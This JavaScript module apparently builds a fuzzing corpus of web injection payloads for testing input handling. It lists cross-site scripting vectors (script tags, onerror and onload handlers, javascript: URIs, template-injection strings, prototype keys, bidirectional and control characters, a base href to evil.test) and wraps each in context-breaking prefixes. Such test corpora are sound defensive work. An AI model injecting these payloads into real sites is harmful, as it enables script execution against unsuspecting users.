// Texts that would like to be more than text. Each is put wherever a stranger can put one.

const marks = "alert(1)";
const bodies = [
  `<script>${marks}</script>`,
  `<img src=x onerror=${marks}>`,
  `<svg onload=${marks}>`,
  `<svg><script>${marks}</script></svg>`,
  `<iframe srcdoc="<script>${marks}</script>">`,
  `<a href="javascript:${marks}">x</a>`,
  `javascript:${marks}`,
  `data:text/html,<script>${marks}</script>`,
  `<body onload=${marks}>`,
  `<details open ontoggle=${marks}>`,
  `<input autofocus onfocus=${marks}>`,
  `<math><mtext><img src=x onerror=${marks}></mtext></math>`,
  `<style>@import 'javascript:${marks}'</style>`,
  `<base href="//evil.test/">`,
  `<form action="javascript:${marks}"><button>x</button></form>`,
  `<template><script>${marks}</script></template>`,
  `{{constructor.constructor('${marks}')()}}`,
  `\${${marks}}`,
  `<%= ${marks} %>`,
  `__proto__`,
  `constructor`,
  `\u202egnp.exe`,
  `\u2066\u2067${marks}\u2069`,
  `\u0000\u001b[31m\u0007`,
  `\u2028\u2029`,
];
const wraps = [
  (text) => text,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `"/>${text}<!--`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `\`-${text}-\``,
  (text) => `]]>${text}`,
  (text) => text.replace(/[a-z]/g, (letter, at) => (at % 2 ? letter.toUpperCase() : letter)),
];

export const corpus = wraps.flatMap((wrap) => bodies.map(wrap));
